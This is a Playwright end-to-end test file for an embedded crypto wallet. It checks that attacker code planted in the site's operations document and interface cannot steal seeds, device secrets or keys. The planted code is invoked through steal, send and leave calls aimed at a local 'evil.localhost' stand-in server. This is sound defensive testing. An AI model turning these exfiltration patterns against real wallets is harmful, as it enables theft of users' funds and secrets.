import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import { join } from 'node:path';
import { buildDocumentsOf, type SecureSite, type SmartAccounts, startSecureSite, startSmartAccounts } from '@latchkey/sandbox';
import type { Frame, Page } from '@playwright/test';
import { type Address, type Hex, parseEther, recoverMessageAddress } from 'viem';
import type { PlantedInInterface } from '../../sandbox/secure-site/attack-page/planted-in-interface.js';
import type { Planted } from '../../sandbox/secure-site/attack-page/planted-in-operations.js';
import { wordsOf } from '../../sandbox/secure-site/keys/accounts.js';
import { type PlainVault, unwrapDataKey, type Wrap } from '../../sandbox/secure-site/keys/vault.js';
import { openContents } from '../../sandbox/secure-site/keys/vault-contents.js';
import { buildPage } from './support/built-page.js';
import { EmbeddingPage } from './support/embedding-page.js';
import { expect, test } from './support/fixtures.js';
import { readSandbox } from './support/running-sandbox.js';
import { VirtualAuthenticator } from './support/virtual-authenticator.js';

declare global {
  interface Window {
    /** Messages to and from the worker with the keys, as JSON with bytes in hex. Only the test has them. */
    ofKeys: string[];
    /** Data of all messages that the app's page got. */
    hostGot: unknown[];
    /** Of the document that completes operations. */
    planted?: Planted;
    /** Of the frame and the windows. */
    plantedInInterface?: PlantedInInterface;
  }
}

/** Records what the page gets, and what the site's documents and the worker say to each other. Runs before all scripts. */
const record = (): void => {
  window.ofKeys = [];
  window.hostGot = [];
  window.addEventListener('message', ({ data }) => window.hostGot.push(data));
  const toHex = (bytes: Uint8Array): string => [...bytes].map((byte) => byte.toString(16).padStart(2, '0')).join('');
  const note = (value: unknown): void =>
    void window.ofKeys.push(JSON.stringify(value, (_, each: unknown) => (each instanceof Uint8Array ? toHex(each) : each)));
  const heard = new WeakSet<MessagePort>();
  const { postMessage } = MessagePort.prototype;
  MessagePort.prototype.postMessage = function (this: MessagePort, ...values: never): void {
    // Requests to the keys have an action.
    const [message] = values as readonly unknown[];
    if (typeof message === 'object' && message !== null && 'action' in message) {
      if (!heard.has(this)) this.addEventListener('message', ({ data }) => note(data));
      heard.add(this);
      note(message);
    }
    postMessage.apply(this, values);
  };
};

/** An attacker's server. */
class EvilServer {
  readonly #server = createServer((request, response) => {
    this.requests.push(request.url ?? '');
    response.end();
  });
  /** URLs that were asked for. */
  readonly requests: string[] = [];

  async start(): Promise<string> {
    await new Promise<void>((resolve) => this.#server.listen(0, '127.0.0.1', resolve));
    // A listening TCP server has an AddressInfo.
    return `http://evil.localhost:${(this.#server.address() as AddressInfo).port}`;
  }

  stop(): void {
    this.#server.close();
    this.#server.closeAllConnections();
  }
}

interface User {
  readonly address: Address;
  readonly accounts: readonly { readonly address: Address; readonly type: string }[];
}

interface Create {
  readonly action: 'create';
  readonly wraps: readonly { readonly secrets: { readonly server: string } }[];
}
interface Created {
  readonly result: { readonly vault: PlainVault; readonly wraps: readonly Wrap[] };
}

const CHAIN = 'eip155:1';
const BOB: Address = '0x70997970C51812dc3A010C7d01b50e0d17dc79C8';

const bytesOf = (hex: string): Uint8Array<ArrayBuffer> => new Uint8Array(Buffer.from(hex, 'hex'));

/** The secret of the device, from the storage of the keys. Only the test reads it. */
const deviceSecretOf = async (page: Page): Promise<Uint8Array<ArrayBuffer>> => {
  const keys = page.frames().find((each) => each.url().endsWith('/keys'));
  const bytes = await keys?.evaluate(
    () =>
      new Promise<readonly number[]>((resolve, reject) => {
        const opening = indexedDB.open('latchkey-keys');
        opening.addEventListener('error', reject);
        opening.addEventListener('success', () => {
          const reading = opening.result.transaction('devices').objectStore('devices').getAll();
          reading.addEventListener('success', () => resolve([...reading.result[0].secret]));
        });
      }),
  );
  return new Uint8Array(bytes ?? []);
};

/** The wallet's secrets, from what the frame and its worker have sent each other, and what the worker has stored. */
const secretsOf = async (page: Page, frame: Frame) => {
  const messages = (await frame.evaluate(() => window.ofKeys)).map((text): Partial<Create & Created> => JSON.parse(text));
  const created = messages.find(({ action }) => action === 'create');
  const reply = messages.find(({ result }) => result?.vault !== undefined && result.wraps !== undefined);
  const { server = '' } = created?.wraps?.[0]?.secrets ?? {};
  const device = await deviceSecretOf(page);
  const wrap = reply?.result?.wraps[0];
  const dataKey = wrap === undefined ? null : await unwrapDataKey(wrap, { device, server: bytesOf(server) });
  const contents = reply?.result === undefined || dataKey === null ? null : await openContents(reply.result.vault, dataKey);
  if (dataKey === null || contents === null) throw new Error('The test has not found the secrets');
  return { entropy: contents.entropy, dataKey, device, server: bytesOf(server) };
};

const encodingsOf = (secret: Uint8Array): readonly string[] => {
  const bytes = Buffer.from(secret);
  return [bytes.toString('hex'), bytes.toString('base64').replace(/=+$/, ''), bytes.toString('base64url'), [...secret].join(',')];
};

/** Adds a passkey on the user's own page. */
const addPasskey = async (page: Page, site: SecureSite): Promise<void> => {
  const home = await page.context().newPage();
  await VirtualAuthenticator.add(home);
  await home.goto(`${site.origin}/dashboard`);
  await home.getByRole('button', { name: 'Add a passkey' }).click();
  await home.getByLabel('Name').fill('Blue key');
  await home.getByRole('button', { name: 'Create passkey' }).click();
  await home.getByRole('button', { name: 'Use passkey' }).click();
  await expect(home.getByRole('status').filter({ hasText: 'Blue key was added.' })).toBeVisible();
  await home.close();
  await page.bringToFront();
};

/** The document in a page. */
const operationsOf = (page: Page): Frame => {
  const frame = page.frames().find((each) => /\/operations(?:\?|$)/.test(each.url()));
  if (frame === undefined) throw new Error('There is no such document');
  return frame;
};

test.describe('@embedded code planted in the document that completes operations', () => {
  let site: SecureSite;
  let smartAccounts: SmartAccounts;
  const evil = new EvilServer();
  let evilOrigin: string;

  test.beforeAll(async () => {
    const planted = join(import.meta.dirname, '../../sandbox/secure-site/attack-page/planted-in-operations.ts');
    const rpcUrl = readSandbox().urls.rpc[CHAIN] ?? '';
    smartAccounts = await startSmartAccounts({ chains: [{ chainId: 1, rpcUrl }], isLazy: true });
    const currency = { symbol: 'ETH', decimals: 18 };
    site = await startSecureSite({
      networks: [{ chainId: CHAIN, name: 'Ethereum', rpcUrl, currency, smartAccounts: smartAccounts.services(1) }],
      documents: await buildDocumentsOf({ plantedInOperations: planted }),
    });
    evilOrigin = await evil.start();
  });
  test.afterAll(async () => {
    evil.stop();
    await Promise.all([site.stop(), smartAccounts.stop()]);
  });

  test('has nothing signed but what the app has asked for, and gets no seed, by no channel', async ({ page, chains, serve, problems }) => {
    test.slow();
    problems.expect(
      /Content Security Policy|Content-Security-Policy|sandboxed|Failed to load resource|TrustedScript|Trusted Type|Blocked|Refused/i,
    );
    await page.addInitScript(record);
    const app = new EmbeddingPage(page, site);
    await app.open(await serve({ files: await buildPage({ folder: 'tests/e2e/pages/embedded' }), scripts: [], meta: null }));
    await app.login('planted@example.com');
    const { address, accounts } = (await app.createWallet()) as User;
    const own = accounts.find(({ type }) => type === 'eoa')?.address;
    const signMessage = (message: string) => app.begin('RPC_REQUEST', { method: 'personal_sign', params: [message, own] });
    const expectSigned = async (message: string): Promise<void> => {
      // A signature is hex.
      const signature = (await app.approve(signMessage(message), 'Sign')) as Hex;
      expect(await recoverMessageAddress({ message, signature })).toBe(own);
    };

    await test.step('the user has a passkey, which confirms what spends', () => addPasskey(page, site));

    await test.step('what it completes is signed only if it is what the app has asked for', async () => {
      await chains.of(CHAIN).setBalance({ address, value: parseEther('1') });
      const batch = { version: '2.0.0', chainId: '0x1', from: address, atomicRequired: true, calls: [{ to: BOB, value: '0x1' }] };
      expect(await app.begin('RPC_REQUEST', { method: 'wallet_sendCalls', params: [batch] })).toEqual({
        error: 'The operation is not what the app has asked for',
      });
      await expectSigned('Hello');
    });

    const frame = page.frame({ name: 'lk-frame' });
    if (frame === null) throw new Error('There is no frame');
    const document = operationsOf(page);
    const got: unknown[] = [];

    await test.step('it reads nothing of the site, and starts no worker', async () => {
      const stolen = await document.evaluate(() => window.planted?.steal());
      got.push(stolen);
      expect(stolen).toEqual({
        origin: 'null',
        indexedDB: 'SecurityError',
        localStorage: 'SecurityError',
        cookie: 'SecurityError',
        caches: 'SecurityError',
        'file system': 'SecurityError',
        'document of the parent': 'SecurityError',
        'storage of the parent': 'SecurityError',
        'worker of the keys': expect.stringMatching(/error|Error/),
        'worker of its own': expect.stringMatching(/error|Error/),
        'another page of the site': 'no document',
      });
    });

    await test.step('it sends nothing to another server', async () => {
      got.push(await document.evaluate(([origin, data]) => window.planted?.send(origin, data), [evilOrigin, 'data'] as const));
      // The browser may connect ahead, and sends nothing then.
      expect(evil.requests).toEqual([]);
      expect(new URL(page.url()).hostname).toBe('app.localhost');
      expect(frame.url()).toContain(`${site.origin}/f/${site.digest}/sdk`);
    });

    await test.step('it cannot leave with what it has seen, except to the page that embeds the frame', async () => {
      got.push(
        JSON.parse(
          await document.evaluate(() =>
            JSON.stringify(window.planted?.seen, (_, each: unknown) => {
              if (typeof each === 'bigint') return String(each);
              return each instanceof Uint8Array ? [...each] : each;
            }),
          ),
        ),
      );
      await document.evaluate(([origin, data]) => window.planted?.leave(origin, data), [evilOrigin, 'data'] as const);
      await expect.poll(() => JSON.stringify(site.cspReports())).toContain(`"effective-directive":"frame-src"`);
      expect(evil.requests).toEqual([]);
      expect(await page.evaluate(() => window.hostGot)).toContainEqual({ type: '@w3m-frame/STOLEN', id: 'data' });
      await expect(frame.locator('iframe[src="operations"]')).toHaveCount(0);
      await expectSigned('Again');
    });

    await test.step('what it has seen, and what came to the page, has no secret', async () => {
      const secrets = await secretsOf(page, frame);
      const texts = JSON.stringify([got, await page.evaluate(() => window.hostGot), site.cspReports(), evil.requests]);
      // It has seen the request, and the search finds what is there.
      expect(texts).toContain(BOB);
      const known = JSON.stringify(await frame.evaluate(() => window.ofKeys));
      // The site's own documents know the server's secret, and not that of the device.
      for (const [secret, isKnown] of [
        [secrets.server, true],
        [secrets.device, false],
      ] as const)
        expect(encodingsOf(secret).some((each) => known.includes(each))).toBe(isKnown);
      for (const [name, secret] of Object.entries(secrets))
        expect([name, encodingsOf(secret).some((each) => texts.includes(each))]).toEqual([name, false]);
      expect(texts).not.toContain(wordsOf(secrets.entropy));
    });

    // The server counts.
    await fetch(evilOrigin.replace('evil.', ''));
    expect(evil.requests).toHaveLength(1);
  });
});

test.describe('@embedded code planted in the user interface of the site', () => {
  const evil = new EvilServer();
  let evilOrigin: string;
  let site: SecureSite;

  test.beforeAll(async () => {
    const planted = join(import.meta.dirname, '../../sandbox/secure-site/attack-page/planted-in-interface.ts');
    site = await startSecureSite({ networks: [], documents: await buildDocumentsOf({ plantedInInterface: planted }) });
    evilOrigin = await evil.start();
  });
  test.afterAll(async () => {
    evil.stop();
    await site.stop();
  });

  test('gets no seed with its own cryptography, and has nothing signed that a passkey protects', async ({ page, serve, problems }) => {
    problems.expect(/Content Security Policy|frame-ancestors|Failed to load resource|Refused|Blocked|404/i);
    await page.addInitScript(record);
    const app = new EmbeddingPage(page, site);
    await app.open(await serve({ files: await buildPage({ folder: 'tests/e2e/pages/embedded' }), scripts: [], meta: null }));
    await app.login('interface@example.com');
    const { address } = await app.createWallet();
    await addPasskey(page, site);
    const frame = page.frame({ name: 'lk-frame' });
    if (frame === null) throw new Error('There is no frame');

    const stolen = await frame.evaluate(async (origin) => {
      const got = await window.plantedInInterface?.steal(origin);
      return got === undefined ? null : { ...got, released: { ...got.released, server: [...got.released.server] } };
    }, evilOrigin);
    await test.step('the worker refuses its requests that a passkey protects', () => {
      expect(stolen?.outcomes).toEqual({
        unlock: 'done',
        'sign what it cannot read': 'passkey-needed',
        'wrap for secrets of its own': 'passkey-needed',
        'add a device of its own': 'passkey-needed',
        'replace the data key': 'passkey-needed',
        'drop the passkeys': 'passkey-needed',
        export: 'not-here',
        'storage of the keys': 'SecurityError',
        'document that exports': 'not started',
        'document of frames': 'started',
        'worker of its own': 'TypeError',
        'network request': 'TypeError',
      });
      expect(evil.requests).toEqual([]);
    });

    await test.step('it has one secret of two, and none that opens the wallet with it', async () => {
      const secrets = await secretsOf(page, frame);
      // It has the server's, and what is stored on the site's origin.
      expect(stolen?.released.server).toEqual([...secrets.server]);
      expect(JSON.stringify(stolen?.stored)).toContain(address);
      await frame.evaluate(([origin, data]) => window.plantedInInterface?.leave(origin, data), [
        evilOrigin,
        JSON.stringify(stolen),
      ] as const);
      await expect.poll(() => evil.requests.length).toBeGreaterThan(0);
      expect(await page.evaluate(() => window.hostGot)).toContainEqual(expect.objectContaining({ type: '@w3m-frame/STOLEN' }));
      const texts = JSON.stringify([stolen, evil.requests.map(decodeURIComponent), await page.evaluate(() => window.hostGot)]);
      expect(encodingsOf(secrets.server).some((each) => texts.includes(each))).toBe(true);
      const { entropy, dataKey, device } = secrets;
      for (const [name, secret] of Object.entries({ entropy, dataKey, device }))
        expect([name, encodingsOf(secret).some((each) => texts.includes(each))]).toEqual([name, false]);
      expect(texts).not.toContain(wordsOf(entropy));
    });
  });
});
